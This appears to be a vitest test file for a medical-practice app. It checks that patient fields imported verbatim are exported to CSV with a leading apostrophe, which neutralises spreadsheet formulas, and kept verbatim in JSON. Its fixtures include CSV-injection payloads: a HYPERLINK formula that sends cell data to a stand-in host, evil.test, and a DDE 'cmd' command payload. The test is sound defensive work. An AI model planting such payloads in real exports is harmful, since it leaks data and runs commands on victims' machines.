// A patient named =HYPERLINK(…), a member id @SUM(1+1) and a note +cmd… are imported as they
// are (they are the practice's data), and downloaded as text, never as spreadsheet formulas.
import fs from "node:fs";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET } from "@/app/api/exports/[kind]/route";
import { runAsUser } from "../core/context";
import { disconnectDb } from "../core/db";
import { createTestPractice, importVisitsCsv, type TestPractice, db } from "../testing";

const NAME = '=HYPERLINK("http://evil.test/?q="&A1,"Open")';
const MEMBER = "@SUM(1+1)";
const NOTE = "+cmd|' /C calc'!A0";

describe("CSV exports neutralise formula-leading cells", () => {
  let t: TestPractice;
  beforeAll(async () => {
    t = await createTestPractice("csv-injection");
    const example = parse(fs.readFileSync(path.resolve("e2e/fixtures/example-practice/visits.csv")), { columns: true }) as Record<
      string,
      string
    >[];
    // the example's first visit (three lines), with hostile patient fields and note
    const rows = example.filter((r) => r.visit_id === "V00001").map((r) => ({ ...r, first_name: NAME, member_id: MEMBER, note: NOTE }));
    await importVisitsCsv(t, stringify(rows, { header: true }));
  });
  afterAll(() => disconnectDb());

  it("stores the values verbatim", async () => {
    const patient = await db().patient.findFirstOrThrow({ where: { practiceId: t.practiceId } });
    expect(patient.firstName).toBe(NAME);
  });

  it("writes them with a leading apostrophe in the visits CSV, and verbatim in JSON", async () => {
    const get = (format: string) =>
      runAsUser(t.users.BILLER, () =>
        GET(new Request(`http://localhost/api/exports/visits?format=${format}`), { params: Promise.resolve({ kind: "visits" }) }),
      );
    const res = await get("csv");
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    expect(rows.length).toBe(3);
    for (const r of rows) {
      expect(r.first_name).toBe(`'${NAME}`);
      expect(r.member_id).toBe(`'${MEMBER}`);
      expect(r.note).toBe(`'${NOTE}`);
      // money stays a plain number (dollars with two decimals), never prefixed
      expect(r.expected_allowed).toMatch(/^\d+\.\d{2}$/);
    }
    const json = (await (await get("json")).json()) as Record<string, string>[];
    expect(json[0]!.first_name).toBe(NAME);
  });
});
